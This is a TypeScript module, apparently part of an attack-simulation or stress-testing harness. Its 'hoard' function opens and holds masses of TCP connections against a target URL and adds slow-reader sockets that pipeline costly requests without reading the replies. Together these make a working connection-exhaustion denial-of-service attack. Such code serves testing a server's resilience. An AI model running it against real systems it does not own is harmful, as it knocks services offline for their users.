// Connections that are taken and kept: each asks once, with something that costs nothing, and then stays. Slow readers ask
// for large answers and read none of them. Whatever is closed is opened again.

import { connect, type Socket } from 'node:net'
import { setTimeout as wait } from 'node:timers/promises'
import { shapeNamed } from '../shapes/all-shapes.ts'
import type { AttackPlan } from './plan.ts'
import { rawBytes } from './raw-bytes.ts'

const tickMs = 10
/** So many are opened in one tick: as fast as a server can take them. */
const openPerTick = 100
const slowRequests = 90

export async function hoard(url: URL, seconds: number, plan: Extract<AttackPlan, { kind: 'hoard' }>): Promise<number> {
  const cheap = Buffer.from(`GET /w/x HTTP/1.1\r\nhost: ${url.host}\r\n\r\n`)
  const dear = rawBytes(url, shapeNamed('100 assets in each of 10 impressions').make())
  const sockets = new Set<Socket>()
  let slow = 0
  let answers = 0

  function open(isSlow: boolean): void {
    const socket = connect({ host: url.hostname, port: Number(url.port), localAddress: plan.source })
    sockets.add(socket)
    if (isSlow) {
      slow++
      socket.pause()
      for (let count = 0; count < slowRequests; count++) socket.write(dear)
    } else {
      socket.once('data', () => answers++)
      socket.write(cheap)
    }
    socket.on('error', () => {})
    socket.on('close', () => {
      sockets.delete(socket)
      if (isSlow) slow--
    })
  }

  const startedMs = performance.now()
  while (performance.now() - startedMs < seconds * 1000) {
    for (let count = 0; count < openPerTick && sockets.size < plan.connections + plan.slowReaders; count++) {
      open(slow < plan.slowReaders)
    }
    await wait(tickMs)
  }
  for (const socket of sockets) socket.destroy()
  return answers
}
